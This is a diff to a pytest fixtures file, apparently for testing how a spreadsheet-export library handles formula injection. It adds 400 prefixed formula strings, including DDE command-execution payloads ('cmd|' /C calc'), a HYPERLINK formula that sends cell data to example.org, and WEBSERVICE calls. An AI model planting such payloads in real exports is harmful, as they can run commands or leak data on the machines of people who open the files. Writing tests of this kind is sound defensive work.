@@ -30,6 +30,7 @@ PAYLOADS = {
     "percent": "10%",
     "escape_of_excel": "_x0041_",
     "escapes_of_excel_that_overlap": "a_x0041_x0042_x005F_b_x004g_",
+    "escape_of_libreoffice": "_x10_ _x9_",
     "full_width_formula": "＝1",
     "full_width_plus": "＋1",
     "quoted": "'quoted",
@@ -84,3 +85,54 @@ def make_table() -> Callable[..., Table]:
 @pytest.fixture(scope="session")
 def make_export() -> Callable[..., Export]:
     return export_of
+
+
+#: What begins a formula somewhere, and what may stand before it; 400 texts that no program may reckon with.
+_BEFORE = ("", " ", "\t", "\n", "'", '"', ";", ",", "\ufeff", "\u200b")
+_FORMULAS = (
+    "=1+1",
+    "=SUM(A1:A9)",
+    "=cmd|' /C calc'!A0",
+    '=HYPERLINK("http://example.org?x="&A1,"Click")',
+    '=WEBSERVICE("http://example.org")',
+    '=IMPORTXML("http://example.org","//a")',
+    '=DDE("cmd";"/C calc";"x")',
+    "{=1+1}",
+    "=A1",
+    "=-1",
+    "==1",
+    "=@SUM(1)",
+    "+1+1",
+    "+cmd|' /C calc'!A0",
+    "-1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)",
+    "@A1",
+    "＝1+1",
+    "＋1+1",
+    "－1+1",
+    "＠SUM(1)",
+    "=1+1\n=2+2",
+    "=1;2",
+    "=TRUE()",
+    "#REF!",
+    "#N/A",
+    "#DIV/0!",
+    "TRUE",
+    "FALSE",
+    "1e5",
+    "1E+400",
+    "0x1F",
+    "007",
+    "1/2",
+    "2026-03-02",
+    "12:30",
+    "50%",
+    "£5",
+    "_x003D_1+1",
+)
+
+
+@pytest.fixture(scope="session")
+def formula_texts() -> list[str]:
+    return [before + formula for before in _BEFORE for formula in _FORMULAS]
